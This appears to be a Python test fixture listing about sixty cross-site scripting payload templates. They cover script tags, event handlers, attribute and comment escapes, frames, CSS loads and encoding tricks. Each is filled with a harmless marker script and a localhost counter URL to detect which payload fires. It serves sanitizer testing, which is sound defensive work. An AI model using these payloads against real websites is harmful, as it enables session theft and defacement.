"""Hostile texts. {JS} is code that leaves a mark, {URL} an address that counts requests.

Each mark and address has the payload's own number, so that what fired can be told.
"""

from __future__ import annotations

RAW = (
    # Scripts, whole and broken.
    "<script>{JS}</script>",
    "<ScRiPt >{JS}</sCrIpT >",
    "<script src={URL}></script>",
    "</script><script>{JS}</script>",
    "<scr<script>ipt>{JS}</scr</script>ipt>",
    "<script/x>{JS}</script/x>",
    "<script type=module>{JS}</script>",
    "<script type=module>import('{URL}')</script>",
    # Event handlers.
    "<img src=x onerror={JS}>",
    "<img src=x onerror='{JS}'//",
    "<img/src=`x`/onerror={JS}>",
    "<body onload={JS}>",
    "<svg onload={JS}>",
    "<svg/onload={JS}//",
    "<svg><animate onbegin={JS} attributeName=x dur=1s>",
    "<svg><script>{JS}</script></svg>",
    "<svg><image href={URL} />",
    "<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    "<input autofocus onfocus={JS}>",
    "<details open ontoggle={JS}><summary>x</summary></details>",
    "<video src=x onerror={JS}></video>",
    "<video poster={URL}></video>",
    "<audio src=x onerror={JS}>",
    "<iframe onload={JS}></iframe>",
    "<style>@keyframes a{}</style><b style='animation:a 1s' onanimationstart={JS}>x</b>",
    # Ways out of an attribute, a comment, an element of plain text, a section, a template.
    '"><img src=x onerror={JS}>',
    "'><img src=x onerror='{JS}'>",
    '" onfocus={JS} autofocus tabindex=1 x="',
    "' onfocus={JS} autofocus tabindex=1 x='",
    "--><img src=x onerror={JS}>",
    "--!><script>{JS}</script><!--",
    "<!--><img src=x onerror={JS}>-->",
    "]]><script>{JS}</script>",
    "<![CDATA[<script>{JS}</script>]]>",
    "</title><script>{JS}</script>",
    "</style><script>{JS}</script>",
    "</textarea><img src=x onerror={JS}>",
    "</template><script>{JS}</script>",
    "<noscript><p title='</noscript><img src=x onerror={JS}>'>",
    "</details></article></main><script>{JS}</script>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{JS}</x:script>",
    # Frames, objects, links, refresh, base, forms.
    "<iframe src=\"javascript:{JS}\"></iframe>",
    "<iframe srcdoc=\"<script>{JS}</script>\"></iframe>",
    "<iframe src={URL}></iframe>",
    "<object data={URL}></object>",
    "<embed src={URL}>",
    "<link rel=stylesheet href={URL}>",
    "<base href={URL}><img src=relative.png>",
    "<meta http-equiv=refresh content='0;url={URL}'>",
    "<img srcset='{URL} 1x'>",
    "<form action={URL}><input type=image src={URL}></form>",
    "<a href='javascript:{JS}' autofocus>x</a><iframe src='data:text/html,<img src={URL}>'>",
    # Style sheets.
    "<style>*{{background:url({URL})}}</style>",
    "<style>@import '{URL}';</style>",
    "<b style='background:url({URL})'>x</b>",
    # Mutations, encodings, tricks with characters.
    "<svg></p><style><a id=\"</style><img src=x onerror={JS}>\">",
    "+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    "&lt;script&gt;{JS}&lt;/script&gt;&#60;script&#62;{JS}",
    "<scr\x00ipt>{JS}</scr\x00ipt><img src=x one\x00rror={JS}>",
    "\u202e<img src=x onerror={JS}>\u2028\u2066\ufeff\uff1cscript\uff1e{JS}",
)  # fmt: skip

REFRESH = 48
"""The payload that navigates away: no content security policy stops that."""

SHOWN_AS = {"\x00": "U+0000", "\u202e": "U+202E", "\u2028": "U+2028", "\u2066": "U+2066",
            "\ufeff": "U+FEFF"}  # fmt: skip
"""How the hidden characters above are to be shown."""


def payloads(port: int) -> list[str]:
    """All payloads, with requests to go to `port` of this machine."""
    out = []
    for number, raw in enumerate(RAW):
        mark = f"top.document.documentElement.setAttribute(`pwned-{number}`,1)"
        address = f"http://127.0.0.1:{port}/hit-{number}"
        text = raw.replace("{JS}", mark).replace("{URL}", address)
        out.append(text.replace("{{", "{").replace("}}", "}"))
    return out


def shown(payload: str) -> str:
    """What a reader is to see of a payload."""
    return "".join(SHOWN_AS.get(char, char) for char in payload)
